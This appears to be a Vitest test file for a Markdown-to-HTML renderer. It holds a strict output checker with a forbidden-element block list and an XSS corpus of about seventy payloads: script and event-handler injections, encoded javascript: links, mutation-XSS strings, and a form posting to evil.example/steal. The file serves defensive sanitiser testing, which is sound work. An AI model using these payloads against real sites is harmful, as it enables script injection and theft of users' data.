@@ -1,0 +1,319 @@
+import { describe, it, expect } from "vitest";
+import { MARKDOWN_RENDERER_VERSION, renderMarkdown } from "./markdown";
+
+// --- A strict reader for the renderer's output -------------------------------------------
+// No HTML parser (rehype-parse, hast-util-from-html, parse5) is installed, so this reads the
+// output of hast-util-to-html, which is regular: text escapes `<` and `&`, attribute values
+// are always double-quoted with `"` and `&` escaped. Every `<` must therefore open a
+// well-formed tag; anything else (a comment, a doctype, a stray `<`) throws, which fails the
+// test instead of being silently skipped.
+
+type Tag = { name: string; closing: boolean; attrs: Array<[string, string]> };
+
+const TAG_AT = /<(\/?)([A-Za-z][A-Za-z0-9-]*)((?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*)\s*\/?>/y;
+const ATTR = /\s+([^\s"'<>/=]+)(?:="([^"]*)")?/g;
+
+function decodeEntities(s: string): string {
+  const named: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" };
+  return s.replace(/&(#[xX][0-9A-Fa-f]+|#[0-9]+|[A-Za-z]+);/g, (all, ref: string) => {
+    if (ref[0] === "#") {
+      const hex = ref[1] === "x" || ref[1] === "X";
+      return String.fromCodePoint(parseInt(ref.slice(hex ? 2 : 1), hex ? 16 : 10));
+    }
+    if (ref in named) return named[ref];
+    throw new Error(`unexpected named entity ${all}`);
+  });
+}
+
+function parseHtml(html: string): { tags: Tag[]; text: string } {
+  const tags: Tag[] = [];
+  let text = "";
+  let i = 0;
+  while (i < html.length) {
+    const lt = html.indexOf("<", i);
+    text += html.slice(i, lt < 0 ? html.length : lt);
+    if (lt < 0) break;
+    TAG_AT.lastIndex = lt;
+    const m = TAG_AT.exec(html);
+    if (!m) throw new Error(`unparseable markup at ${lt}: ${JSON.stringify(html.slice(lt, lt + 40))}`);
+    const attrs: Array<[string, string]> = [];
+    for (const a of m[3].matchAll(ATTR)) attrs.push([a[1].toLowerCase(), decodeEntities(a[2] ?? "")]);
+    tags.push({ name: m[2].toLowerCase(), closing: m[1] === "/", attrs });
+    i = lt + m[0].length;
+  }
+  return { tags, text: decodeEntities(text) };
+}
+
+const FORBIDDEN_ELEMENTS = [
+  "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link", "form",
+  "meta", "base", "svg", "math", "template", "noscript", "textarea", "button", "select",
+  "video", "audio", "body", "html", "xss", "isindex",
+];
+const URL_ATTRS = ["href", "src", "action", "formaction", "xlink:href", "srcset", "cite", "longdesc", "background", "poster", "data"];
+const SAFE_URL = /^(https?:|mailto:|#)/i;
+
+/** Every reason `html` would be unsafe to inject; empty means safe. */
+function violations(html: string): string[] {
+  const found: string[] = [];
+  for (const tag of parseHtml(html).tags) {
+    if (FORBIDDEN_ELEMENTS.includes(tag.name)) found.push(`<${tag.name}> element`);
+    if (tag.closing) continue;
+    for (const [name, value] of tag.attrs) {
+      if (name.startsWith("on")) found.push(`${name} handler on <${tag.name}>`);
+      if (name === "style") found.push(`style attribute on <${tag.name}>`);
+      if (URL_ATTRS.includes(name) && !SAFE_URL.test(value.trim())) found.push(`${name}=${JSON.stringify(value)}`);
+    }
+    const href = tag.attrs.find(([n]) => n === "href")?.[1];
+    if (tag.name === "a" && href && /^(https?:|\/\/)/i.test(href.trim())) {
+      const rel = tag.attrs.find(([n]) => n === "rel")?.[1];
+      if (rel !== "nofollow ugc noopener") found.push(`external link without rel: ${href}`);
+    }
+    if (tag.name === "input") {
+      const attrs = new Map(tag.attrs);
+      if (attrs.get("type") !== "checkbox" || !attrs.has("disabled")) found.push("enabled/non-checkbox <input>");
+    }
+  }
+  return found;
+}
+
+// --- The checker itself must be able to fail -----------------------------------------------
+
+describe("output checker", () => {
+  it.each([
+    ['<p><img src="x" onerror="alert(1)"></p>', "onerror"],
+    ["<script>alert(1)</script>", "<script>"],
+    ['<a href="JavaScript:alert(1)">x</a>', "href"],
+    ['<a href=" javascript:alert(1)">x</a>', "href"],
+    ['<a href="https://x.example">x</a>', "rel"],
+    ['<p style="color:red">x</p>', "style"],
+    ['<svg><a href="#">x</a></svg>', "<svg>"],
+    ['<input type="text">', "input"],
+  ])("flags %s", (html, expected) => {
+    expect(violations(html).join("\n")).toContain(expected);
+  });
+
+  it("rejects markup it cannot read instead of ignoring it", () => {
+    expect(() => parseHtml("<!-- x --><p>a</p>")).toThrow(/unparseable/);
+    expect(() => parseHtml("<p a='b'>x</p>")).toThrow(/unparseable/);
+  });
+
+  it("passes clean markup", () => {
+    expect(violations('<p><a href="https://x.example" rel="nofollow ugc noopener">x</a> <a href="#user-content-fn-1">1</a></p>')).toEqual([]);
+  });
+});
+
+// --- Normal rendering ---------------------------------------------------------------------
+
+describe("renderMarkdown", () => {
+  it("exports a numeric renderer version", () => {
+    expect(MARKDOWN_RENDERER_VERSION).toBe(1);
+  });
+
+  it("renders headings and emphasis", () => {
+    const html = renderMarkdown("# Title\n\n## Sub\n\nSome *em*, **strong** and `code`.");
+    expect(html).toContain("<h1>Title</h1>");
+    expect(html).toContain("<h2>Sub</h2>");
+    expect(html).toContain("<p>Some <em>em</em>, <strong>strong</strong> and <code>code</code>.</p>");
+  });
+
+  it("renders lists", () => {
+    const html = renderMarkdown("- one\n- two\n\n1. first\n2. second");
+    expect(html).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/);
+    expect(html).toMatch(/<ol>\s*<li>first<\/li>\s*<li>second<\/li>\s*<\/ol>/);
+  });
+
+  it("renders fenced code blocks with their content escaped", () => {
+    const html = renderMarkdown('```html\n<script>alert("x") && 1</script>\n```');
+    expect(html).toContain('<pre><code class="language-html">&#x3C;script>alert("x") &#x26;&#x26; 1&#x3C;/script>\n</code></pre>');
+    const { tags, text } = parseHtml(html);
+    expect(tags.map((t) => t.name)).toEqual(["pre", "code", "code", "pre"]);
+    expect(text).toContain('<script>alert("x") && 1</script>');
+  });
+
+  it("renders GFM tables", () => {
+    const html = renderMarkdown("| a | b |\n|:--|--:|\n| 1 | 2 |");
+    expect(html).toMatch(/<table>\s*<thead>\s*<tr>\s*<th align="left">a<\/th>\s*<th align="right">b<\/th>/);
+    expect(html).toMatch(/<tbody>\s*<tr>\s*<td align="left">1<\/td>\s*<td align="right">2<\/td>/);
+  });
+
+  it("renders strikethrough", () => {
+    expect(renderMarkdown("~~gone~~")).toBe("<p><del>gone</del></p>");
+  });
+
+  it("renders task lists as disabled checkboxes", () => {
+    const html = renderMarkdown("- [ ] todo\n- [x] done");
+    expect(html).toContain('<ul class="contains-task-list">');
+    expect(html).toContain('<li class="task-list-item"><input type="checkbox" disabled> todo</li>');
+    expect(html).toContain('<li class="task-list-item"><input type="checkbox" checked disabled> done</li>');
+  });
+
+  it("autolinks literal URLs, www. and e-mail addresses", () => {
+    const html = renderMarkdown("See https://example.com/a?b=1&c=2 or www.example.org or me@example.com.");
+    expect(html).toContain('<a href="https://example.com/a?b=1&#x26;c=2" rel="nofollow ugc noopener">https://example.com/a?b=1&#x26;c=2</a>');
+    expect(html).toContain('<a href="http://www.example.org" rel="nofollow ugc noopener">www.example.org</a>');
+    expect(html).toContain('<a href="mailto:me@example.com">me@example.com</a>');
+  });
+
+  it('gives links rel="nofollow ugc noopener" and keeps titles', () => {
+    expect(renderMarkdown('[docs](https://example.com/docs "The docs")')).toBe(
+      '<p><a href="https://example.com/docs" title="The docs" rel="nofollow ugc noopener">docs</a></p>',
+    );
+    expect(renderMarkdown("<http://example.com>")).toBe(
+      '<p><a href="http://example.com" rel="nofollow ugc noopener">http://example.com</a></p>',
+    );
+  });
+
+  it("treats protocol-relative links as external and leaves site-relative links alone", () => {
+    expect(renderMarkdown("[a](//evil.example/x)")).toBe('<p><a href="//evil.example/x" rel="nofollow ugc noopener">a</a></p>');
+    expect(renderMarkdown("[b](/t/42)")).toBe('<p><a href="/t/42">b</a></p>');
+  });
+
+  it("allows http(s) images and drops other image sources", () => {
+    expect(renderMarkdown("![plot](https://example.com/p.png)")).toBe('<p><img src="https://example.com/p.png" alt="plot"></p>');
+    expect(renderMarkdown("![plot](data:image/png;base64,iVBORw0KGgo=)")).toBe('<p><img alt="plot"></p>');
+  });
+
+  it("keeps footnote links pointing at the prefixed ids", () => {
+    const html = renderMarkdown("Claim[^1].\n\n[^1]: Source.");
+    expect(html).toContain('<a href="#user-content-fn-1" id="user-content-fnref-1"');
+    expect(html).toContain('<li id="user-content-fn-1">');
+    expect(html).toContain('<a href="#user-content-fnref-1"');
+    expect(violations(html)).toEqual([]);
+  });
+
+  it("escapes plain text", () => {
+    const html = renderMarkdown("a < b & c");
+    expect(html).toBe("<p>a &#x3C; b &#x26; c</p>");
+    expect(parseHtml(html).text).toBe("a < b & c");
+  });
+
+  it("drops raw HTML tags but keeps the visible text as inert text", () => {
+    const html = renderMarkdown("before <script>alert(1)</script> after");
+    expect(html).toBe("<p>before alert(1) after</p>");
+    expect(parseHtml(html).tags.map((t) => t.name)).toEqual(["p", "p"]);
+    // A block of raw HTML disappears entirely.
+    expect(renderMarkdown("<script>\nalert(1)\n</script>")).toBe("");
+  });
+
+  it("keeps quotes in a link title inside the title attribute", () => {
+    const html = renderMarkdown('[x](https://example.com "a\\" onclick=\\"alert(1)")');
+    const a = parseHtml(html).tags[1];
+    expect(a.name).toBe("a");
+    expect(a.attrs).toEqual([
+      ["href", "https://example.com"],
+      ["title", 'a" onclick="alert(1)'],
+      ["rel", "nofollow ugc noopener"],
+    ]);
+  });
+
+  it("shows a payload written as code as harmless text", () => {
+    const html = renderMarkdown("`<script>alert(1)</script>` and `<img src=x onerror=alert(1)>`");
+    const { tags, text } = parseHtml(html);
+    expect(tags.map((t) => t.name)).toEqual(["p", "code", "code", "code", "code", "p"]);
+    expect(text).toBe("<script>alert(1)</script> and <img src=x onerror=alert(1)>");
+  });
+
+  it("keeps the text of a link whose URL was dropped", () => {
+    const html = renderMarkdown("[click me](javascript:alert(1))");
+    expect(html).toBe("<p><a>click me</a></p>");
+  });
+});
+
+// --- XSS corpus ---------------------------------------------------------------------------
+
+const XSS_CORPUS: string[] = [
+  // raw HTML elements
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<img src=x onerror=alert(1)>",
+  "<IMG SRC=\"javascript:alert('XSS');\">",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  "<style>body{display:none}</style>",
+  '<p style="background:url(javascript:alert(1))">styled</p>',
+  '<div style="width: expression(alert(1))">ie</div>',
+  '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<div onmouseover="alert(1)">hover</div>',
+  "<details open ontoggle=alert(1)>",
+  "<body onload=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<video><source onerror=alert(1)></video>",
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  '<math href="javascript:alert(1)">CLICK</math>',
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<template><img src=x onerror=alert(1)></template>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<!-- --!><img src=x onerror=alert(1)>-->",
+  '<xss style="behavior:url(x.htc)">x</xss>',
+  "<isindex action=javascript:alert(1) type=image>",
+  // Markdown links and images
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](vbscript:msgbox(1))",
+  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
+  "[x](javascript://%0Aalert(1))",
+  "[x](<javascript:alert(1)>)",
+  "[x](  javascript:alert(1)  )",
+  "[x](jav&#x09;ascript:alert(1))",
+  "[x](jav&#10;ascript:alert(1))",
+  "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+  "[x](&#x6A;avascript:alert(1))",
+  "[x](javascript&colon;alert(1))",
+  "[x](%6Aavascript:alert(1))",
+  String.raw`[x](\u006Aavascript:alert(1))`,
+  "[x](java&Tab;script:alert(1))",
+  "[x](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1))",
+  "[x](java\u0000script:alert(1))",
+  "[x](java\nscript:alert(1))",
+  "![x](javascript:alert(1))",
+  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+  "![x](vbscript:msgbox(1))",
+  '![x](https://example.com/a.png"onerror="alert(1))',
+  // autolinks
+  "<javascript:alert(1)>",
+  "<JAVASCRIPT:alert(1)>",
+  "<vbscript:msgbox(1)>",
+  "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
+  "javascript:alert(1) www.example.com/javascript:alert(1)",
+  // reference-style definitions
+  "[x][ref]\n\n[ref]: javascript:alert(1)",
+  "![x][ref]\n\n[ref]: javascript:alert(1)",
+  '[x][ref]\n\n[ref]: <JaVaScRiPt:alert(1)> "title"',
+  // titles trying to break out of the attribute
+  '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
+  "[x](https://example.com 'a\" onclick=\"alert(1)')",
+  '![x](https://example.com/a.png "\\"><img src=x onerror=alert(1)>")',
+  // payloads inside GFM constructs
+  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+  "- [x] <img src=x onerror=alert(1)>",
+  "a[^x]\n\n[^x]: [y](javascript:alert(1))",
+  "[<img src=x onerror=alert(1)>](https://example.com)",
+  "[![x](javascript:alert(1))](javascript:alert(2))",
+  "~~<svg onload=alert(1)>~~",
+];
+
+describe("XSS corpus", () => {
+  it("has at least 35 distinct payloads", () => {
+    expect(new Set(XSS_CORPUS).size).toBe(XSS_CORPUS.length);
+    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(35);
+  });
+
+  it.each(XSS_CORPUS.map((payload) => [payload]))("neutralises %j", (payload) => {
+    const html = renderMarkdown(payload);
+    expect(violations(html)).toEqual([]);
+  });
+});
